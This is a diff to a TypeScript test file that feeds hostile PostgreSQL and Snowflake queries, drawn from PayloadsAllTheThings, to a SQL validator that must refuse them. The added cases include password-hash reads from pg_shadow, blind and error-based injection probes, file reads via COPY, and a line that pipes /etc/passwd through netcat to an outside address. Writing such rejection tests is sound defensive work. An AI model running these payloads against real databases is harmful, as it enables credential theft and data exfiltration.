@@ -3,8 +3,10 @@ import { validateSql } from '../../../src/contexts/connectors/sql-validator';
 
 /**
  * The validator as an allowlist of resolved names (issue 28), table-driven: statements from
- * the API review, from PayloadsAllTheThings' PostgreSQL and Snowflake injection pages, and
- * comment and dollar-quote tricks are refused; everyday analyst queries pass.
+ * the API review, from PayloadsAllTheThings' "SQL Injection/PostgreSQL Injection.md" (as read
+ * at commit 2ac947e; the repository has no Snowflake page, so the warehouse cases follow
+ * Snowflake's own system functions and views), and comment and dollar-quote tricks are
+ * refused; everyday analyst queries pass.
  */
 type Engine = 'postgresql' | 'snowflake';
 const pg = (sql: string): [string, Engine] => [sql, 'postgresql'];
@@ -71,6 +73,36 @@ const HOSTILE: [string, Engine][] = [
   pg('SELECT * INTO stolen FROM users'),
   pg('WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d'),
   pg("SELECT 1 UNION SELECT pg_read_file('x')"),
+  // PayloadsAllTheThings, PostgreSQL, read from the page: current user, users and hashes,
+  // privileges, databases, tables and columns, error-based and blind probes, large objects.
+  pg('SELECT user'),
+  pg('SELECT current_user'),
+  pg('SELECT session_user'),
+  pg('SELECT getpgusername()'),
+  pg('SELECT usename FROM pg_user'),
+  pg('SELECT usename, passwd FROM pg_shadow'),
+  pg('SELECT usename FROM pg_user WHERE usesuper IS TRUE'),
+  pg('SELECT usename, usecreatedb, usesuper, usecatupd FROM pg_user'),
+  pg('SHOW is_superuser'),
+  pg("SELECT current_setting('is_superuser')"),
+  pg('SELECT usesuper FROM pg_user WHERE usename = CURRENT_USER'),
+  pg('SELECT datname FROM pg_database'),
+  pg('SELECT table_name FROM information_schema.tables'),
+  pg("SELECT column_name FROM information_schema.columns WHERE table_name='data_table'"),
+  pg('SELECT cast(chr(126)||version()||chr(126) as numeric)'),
+  pg("SELECT a FROM t WHERE 1=cast((SELECT concat('DATABASE: ',current_database())) as int) and '1'='1'"),
+  pg('SELECT a FROM t WHERE 1=cast((SELECT table_name FROM information_schema.tables LIMIT 1 OFFSET 0) as int)'),
+  pg("SELECT database_to_xmlschema(true,true,'')"),
+  pg("SELECT a FROM t WHERE substr(version(),1,10) = 'PostgreSQL'"),
+  pg('SELECT a FROM t WHERE 5=(SELECT 5 FROM PG_SLEEP(5))'),
+  pg('SELECT a FROM t WHERE 5=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))'),
+  pg('SELECT lo_get(16420)'),
+  pg('SELECT * FROM pg_largeobject'),
+  pg("SELECT lo_from_bytea(43210, 'your file data goes in here')"),
+  pg("SELECT lo_put(43210, 20, 'some other data')"),
+  pg("SELECT system('cat /etc/passwd | nc 10.0.0.1 4444')"),
+  pg('SELECT 1; create table NotSoSecure (data varchar(200))'),
+  pg("SELECT * FROM temp limit 1 offset 0; COPY temp FROM '/etc/passwd'"),
   // Comment and dollar-quote tricks: the parser reads what the server would.
   pg('SELECT 1 /* ; */ ; DELETE FROM t'),
   pg('SELECT 1 -- harmless\n; UPDATE t SET a = 1'),
@@ -81,7 +113,7 @@ const HOSTILE: [string, Engine][] = [
   pg('SELECT pg_catalog.pg_sleep(1)'),
   pg('SELECT public.lower(x) FROM t'),
   pg('SELECT a FROM t FOR UPDATE'),
-  // PayloadsAllTheThings, Snowflake: system functions, session and account state, stacked statements.
+  // Snowflake: system functions, session and account state, system views, stacked statements.
   sf("SELECT SYSTEM$WHITELIST()"),
   sf("SELECT SYSTEM$GET_SNOWFLAKE_PLATFORM_INFO()"),
   sf('SELECT CURRENT_ACCOUNT()'),
@@ -92,6 +124,8 @@ const HOSTILE: [string, Engine][] = [
   sf('ALTER SESSION SET QUERY_TAG = 1'),
   sf('SELECT 1; DROP TABLE t'),
   sf('SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())'),
+  sf('SELECT * FROM INFORMATION_SCHEMA.TABLES'),
+  sf('SELECT user_name, client_ip FROM SNOWFLAKE.ACCOUNT_USAGE.LOGIN_HISTORY'),
   sf("SELECT my_schema.my_udf(1)"),
   sf('DELETE FROM t'),
   sf('SELECT seq4()'),
